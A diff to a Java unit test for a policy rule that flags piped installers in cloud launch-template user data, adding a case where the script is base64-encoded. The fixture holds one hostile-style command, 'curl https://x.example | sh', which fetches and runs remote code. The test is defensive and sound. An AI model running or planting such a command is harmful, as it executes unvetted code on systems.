@@ -2,6 +2,8 @@ package dev.slipway.policies.packs.any;
 
 import dev.slipway.policies.testkit.Fixture;
 import dev.slipway.policies.testkit.RuleTester;
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
 
@@ -44,5 +46,14 @@ class NoPipedInstallersTest {
     @Test
     void waitsForUnknownUserData() {
         rule.judge(good.unknown("userData")).isUnknownAt("userData");
+    }
+
+    @Test
+    void readsBase64AsTemplatesHaveIt() {
+        String script = Base64.getEncoder()
+                .encodeToString("curl https://x.example | sh\n".getBytes(StandardCharsets.UTF_8));
+        rule.judge(Fixture.of("aws:ec2/launchTemplate:LaunchTemplate").with("userData", script))
+                .failsAt("userData");
+        rule.judge(good.without("userData").with("userDataBase64", script)).failsAt("userDataBase64");
     }
 }
